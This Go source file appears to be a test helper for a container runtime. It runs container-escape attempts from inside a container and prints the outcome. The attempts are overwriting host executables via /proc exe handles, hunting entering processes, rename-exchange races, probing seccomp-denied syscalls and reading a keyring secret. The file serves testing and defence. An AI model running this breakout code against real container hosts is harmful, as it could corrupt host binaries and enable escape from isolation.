// Command attack is what a hostile image would run: the tests put it into containers, where it tries one attack and
// prints what came of it, one "word value" per line. It runs inside the container, with what the container may do.
package main

import (
	"fmt"
	"os"
	"runtime"
	"strconv"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack exe PATH | hunt | exchange A B | syscalls | key | with-key COMMAND [ARGUMENT...]")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "exe":
		overwrite(os.Args[2])
	case "hunt":
		hunt()
	case "exchange":
		exchange(os.Args[2], os.Args[3])
	case "syscalls":
		syscalls()
	case "key":
		readKey()
	case "with-key":
		withKey(os.Args[2:])
	}
}

const keyName = "proa-test-secret"

// withKey runs a command in a session that has a key. It runs on the host.
func withKey(args []string) {
	runtime.LockOSThread()
	_, err := unix.KeyctlInt(unix.KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0, 0)
	if err == nil {
		_, err = unix.AddKey("user", keyName, []byte("s3cr3t"), unix.KEY_SPEC_SESSION_KEYRING)
	}
	if err == nil {
		err = unix.Exec(args[0], args, os.Environ())
	}
	report("with-key", err)
	os.Exit(1)
}

// readKey reads that key.
func readKey() {
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", keyName, 0)
	if err == nil {
		b := make([]byte, 64)
		var n int
		n, err = unix.KeyctlBuffer(unix.KEYCTL_READ, id, b, 0)
		fmt.Println("read", string(b[:max(n, 0)]))
	}
	report("key", err)
}

// overwrite opens an executable, reports its seals and tries to write to it.
func overwrite(path string) {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	report("open", err)
	if err != nil {
		return
	}
	link, _ := os.Readlink(path)
	fmt.Println("is", link)
	seals, err := unix.FcntlInt(uintptr(fd), unix.F_GET_SEALS, 0)
	if err != nil {
		seals = -1
	}
	fmt.Println("seals", seals)
	_, err = unix.Write(fd, []byte("x"))
	report("write-rdonly", err)
	w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY, 0)
	if err == nil {
		_, err = unix.Write(w, []byte("#!/bin/sh\n"))
	}
	report("write", err)
	_, err = unix.Mmap(fd, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	report("mmap", err)
	report("truncate", unix.Truncate(path, 0))
}

// hunt looks, as the container's first process, for processes that enter the container and for their executables.
func hunt() {
	tries, opened, written := 0, 0, 0
	fmt.Println("ready")
	for {
		if _, err := os.Stat("/tmp/stop"); err == nil {
			break
		}
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() {
				continue
			}
			tries++
			path := "/proc/" + e.Name() + "/exe"
			fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			opened++
			// The classic attack keeps the handle and writes as soon as the program no longer runs.
			for end := time.Now().Add(30 * time.Millisecond); time.Now().Before(end); {
				w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY, 0)
				if err != nil {
					continue
				}
				// Busybox belongs to the container, which may change it; only opening what the host runs counts.
				if link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(w)); link != "/bin/busybox" {
					if _, err := unix.Write(w, []byte("x")); err == nil {
						written++
					}
				}
				unix.Close(w)
				break
			}
			unix.Close(fd)
		}
	}
	fmt.Println("tries", tries)
	fmt.Println("opened", opened)
	fmt.Println("written", written)
}

// exchange swaps two files as fast as it can.
func exchange(a, b string) {
	fmt.Println("ready")
	for n := 0; ; n++ {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			report("exchange", err)
			os.Exit(1)
		}
		if n%1000 == 0 {
			if _, err := os.Stat("/tmp/stop"); err == nil {
				return
			}
		}
	}
}

// syscalls tries what the default seccomp profile and capabilities deny.
func syscalls() {
	dir := [...]byte{'/', 't', 'm', 'p', 0}
	fs := [...]byte{'t', 'm', 'p', 'f', 's', 0}
	d, f := uintptr(unsafe.Pointer(&dir[0])), uintptr(unsafe.Pointer(&fs[0]))
	for _, c := range []struct {
		name          string
		nr            uintptr
		a, b, c, d, e uintptr
	}{
		{"mount", unix.SYS_MOUNT, f, d, f, 0, 0},
		{"umount2", unix.SYS_UMOUNT2, d, 0, 0, 0, 0},
		{"unshare", unix.SYS_UNSHARE, unix.CLONE_NEWNS, 0, 0, 0, 0},
		{"pivot_root", unix.SYS_PIVOT_ROOT, d, d, 0, 0, 0},
		{"open_tree", unix.SYS_OPEN_TREE, 0, d, unix.OPEN_TREE_CLONE, 0, 0},
		{"move_mount", unix.SYS_MOVE_MOUNT, 0, d, 0, d, 0},
		{"fsopen", unix.SYS_FSOPEN, f, 0, 0, 0, 0},
		{"bpf", unix.SYS_BPF, 0, 0, 0, 0, 0},
		{"perf_event_open", unix.SYS_PERF_EVENT_OPEN, 0, 0, 0, 0, 0},
		{"userfaultfd", unix.SYS_USERFAULTFD, 0, 0, 0, 0, 0},
		{"init_module", unix.SYS_INIT_MODULE, 0, 0, 0, 0, 0},
		{"kexec_load", unix.SYS_KEXEC_LOAD, 0, 0, 0, 0, 0},
		{"reboot", unix.SYS_REBOOT, 0, 0, 0, 0, 0},
		{"open_by_handle_at", unix.SYS_OPEN_BY_HANDLE_AT, 0, 0, 0, 0, 0},
		{"quotactl", unix.SYS_QUOTACTL, 0, 0, 0, 0, 0},
		{"swapon", unix.SYS_SWAPON, d, 0, 0, 0, 0},
		{"io_uring_setup", unix.SYS_IO_URING_SETUP, 1, 0, 0, 0, 0},
	} {
		_, _, e := unix.Syscall6(c.nr, c.a, c.b, c.c, c.d, c.e, 0)
		if e == 0 {
			report(c.name, nil)
		} else {
			report(c.name, e)
		}
	}
}

func report(what string, err error) {
	if err == nil {
		fmt.Println(what, "succeeded")
		return
	}
	if e, ok := err.(unix.Errno); ok {
		fmt.Println(what, unix.ErrnoName(e))
		return
	}
	fmt.Println(what, err)
}
